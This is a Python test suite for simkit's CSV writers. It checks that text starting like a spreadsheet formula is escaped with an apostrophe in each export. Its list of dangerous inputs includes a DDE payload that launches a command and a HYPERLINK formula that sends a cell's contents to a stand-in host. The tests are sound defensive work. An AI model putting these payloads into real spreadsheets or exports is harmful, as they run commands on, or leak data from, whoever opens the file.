"""Every CSV simkit writes is safe to open in a spreadsheet: text from outside that starts like a formula (or
has one behind spaces or quotes) gets a leading apostrophe, in every writer; numbers, days and ordinary text are
written as they are. Each file is read back with the csv module, as an importer would."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import Engine, update
from typer.testing import CliRunner

from simkit.cli.main import app
from simkit.compliance.output import COLUMNS as COMPLIANCE_COLUMNS
from simkit.compliance.output import learners_csv, problems_csv
from simkit.compliance.report import assess_roster
from simkit.compliance.roster import Roster, RosterEntry, RosterProblem
from simkit.csvfile import Number, cell, csv_text, defused
from simkit.exports import results_csv
from simkit.exports.hr_csv import COLUMNS as HR_COLUMNS
from simkit.gradebook.compliance import GradebookRecords
from simkit.gradebook.tables import attempts, learners
from simkit.grading.statistics import CourseStatistics, QuestionStatistics
from simkit.grading.statistics_options import OptionCount
from simkit.grading.statistics_report import OPTION_COLUMNS, QUESTION_COLUMNS, write_csv

DANGEROUS = [
    "=1+1",
    "+7 701 000 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain after a tab",
    "\rplain after a return",
    " =1+1",
    "  \t@SUM(A1)",
    "\u00a0=1+1",
    '"=1+1',
    "'=1+1",
    "\" '-1",
    "«=1+1»",
    "＝1+1",
    '=HYPERLINK("http://example.invalid/?q="&A1,"Нажмите")',
    "=cmd|' /C calc'!A0",
    "-",
]
ORDINARY = [
    "Әсел Қайратқызы Нұрғалиева",
    "Жан-Поль Сартр",
    "O'Neil, Mary",
    "«Министерство юстиции»",
    "a=b",
    "1-2",
    "",
]
AS_OF = dt.date(2026, 6, 1)


def table(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


# The rule


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert defused(text) == "'" + text
    assert table(csv_text(["a"], [[text]]))[1] == ["'" + text]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert defused(text) == text
    assert table(csv_text(["a"], [[text]]))[1] == [text]


def test_numbers_and_days_are_typed_cells_never_defused() -> None:
    row = [-1.5, -3, Decimal("-0.25"), Number(-12.345, ".2f"), dt.date(2026, 3, 2), None]
    row.append(dt.datetime(2026, 3, 2, 14, 30, tzinfo=dt.timezone(dt.timedelta(hours=5))))
    assert table(csv_text(list("abcdefg"), [row]))[1] == [
        "-1.5",
        "-3",
        "-0.25",
        "-12.35",
        "2026-03-02",
        "",
        "2026-03-02 09:30:00",  # in UTC
    ]


def test_only_a_real_number_makes_a_number_cell() -> None:
    with pytest.raises(TypeError, match="Number takes an int, float or Decimal, not str"):
        Number("=1+1")  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="never a bool"):
        cell(True)
    with pytest.raises(TypeError, match="of type list"):
        cell(["=1"])


# The HR export


def test_the_hr_export_defuses_the_rosters_text_and_keeps_its_numbers(graded: Engine) -> None:
    values = DANGEROUS + ORDINARY
    with graded.begin() as connection:
        connection.execute(update(attempts).where(attempts.c.learner_id == "bek").values(score=-1.5))
    for value in values:
        with graded.begin() as connection:
            connection.execute(
                update(learners).where(learners.c.id == "bek").values(name=value, organisation=value or None)
            )
        for delimiter in (",", ";", "\t"):
            header, *rows = table(results_csv(graded, "onboarding", delimiter)[0], delimiter)
            bek = dict(zip(header, next(row for row in rows if row[0] == "bek"), strict=True))
            expected = "'" + value if value in DANGEROUS else value
            assert (bek["name"], bek["organisation"]) == (expected, expected), (value, delimiter)
            assert (bek["score"], bek["percent"], bek["version"]) == ("-1.5", "-1.1", "2")
            assert bek["submitted_at_utc"] == "2026-03-02 09:00:00"
    assert tuple(header) == HR_COLUMNS


# The compliance report


def entry(line: int, learner: str, text: str) -> RosterEntry:
    return RosterEntry(line, learner, text, text, dt.date(2020, 1, 6), "B", dt.date(2022, 2, 1), None)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_the_compliance_report_defuses_names_organisations_and_problems(delimiter: str) -> None:
    values = DANGEROUS + ORDINARY
    entries = [entry(number, f"l{number}", value) for number, value in enumerate(values, start=2)]
    problems = [RosterProblem(number, value, f"bad row {number}") for number, value in enumerate(values, start=2)]
    roster = Roster("roster.csv", delimiter, entries=entries, problems=problems)
    report = assess_roster(roster, GradebookRecords(), AS_OF, 90)
    header, *rows = table(learners_csv(report), delimiter)
    assert tuple(header) == COMPLIANCE_COLUMNS
    for value, row in zip(values, rows, strict=True):
        found = dict(zip(header, row, strict=True))
        expected = "'" + value if value in DANGEROUS else value
        assert (found["name"], found["organisation"]) == (expected, expected), value
        assert (found["days_to_training_due"], found["training_due"]) == ("-485", "2025-02-01")
    _header, *listed = table(problems_csv(problems, delimiter), delimiter)
    assert [row[1] for row in listed] == ["'" + value if value in DANGEROUS else value for value in values]


# The question statistics


def question(prompt: str, text: str) -> QuestionStatistics:
    option = OptionCount(value=text, text=text, right=False, count=3, share=75.0, provisions=(text,))
    return QuestionStatistics(
        scenario_id="gift-at-desk",
        scenario_version=1,
        step_id="recipient",
        kind="single_choice",
        prompt=prompt,
        provisions=("code:10",),
        answered=4,
        awaiting_review=0,
        max_points=1.0,
        facility=50.0,
        sd=12.5,
        fully_correct=50.0,
        discrimination=-33.333,
        flags=("negative",),
        options=(option,),
    )


def test_the_statistics_files_defuse_prompts_and_options_and_keep_negative_numbers(tmp_path: Path) -> None:
    values = DANGEROUS + ORDINARY
    statistics = CourseStatistics("advanced-training", 4, [question(value, value) for value in values])
    questions, options = write_csv(statistics, tmp_path / "q.csv")
    header, *rows = table(questions.read_bytes().decode("utf-8"))
    assert tuple(header) == QUESTION_COLUMNS
    for value, row in zip(values, rows, strict=True):
        found = dict(zip(header, row, strict=True))
        assert found["prompt"] == ("'" + value if value in DANGEROUS else value)
        assert (found["discrimination_pct"], found["max_points"], found["answered"]) == ("-33.33", "1", "4")
    header, *rows = table(options.read_bytes().decode("utf-8"))
    assert tuple(header) == OPTION_COLUMNS
    for value, row in zip(values, rows, strict=True):
        found = dict(zip(header, row, strict=True))
        expected = "'" + value if value in DANGEROUS else value
        assert (found["option"], found["text"], found["provisions"]) == (expected, expected, expected)
        assert (found["answers"], found["share_pct"]) == ("3", "75.00")


# The simulation summary


def test_the_simulation_summary_writes_its_estimates_as_numbers(tmp_path: Path) -> None:
    out = tmp_path / "sim"
    result = CliRunner().invoke(
        app, ["simulate", "org", "ministry", "--replications", "2", "--workers", "1", "--sweep", "", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    header, *rows = table((out / "summary.csv").read_bytes().decode("utf-8"))
    assert header == ["metric", "mean", "ci95_low", "ci95_high"] and rows
    for row in rows:
        assert not row[0].startswith("'") and all(float(value) >= 0 for value in row[1:])
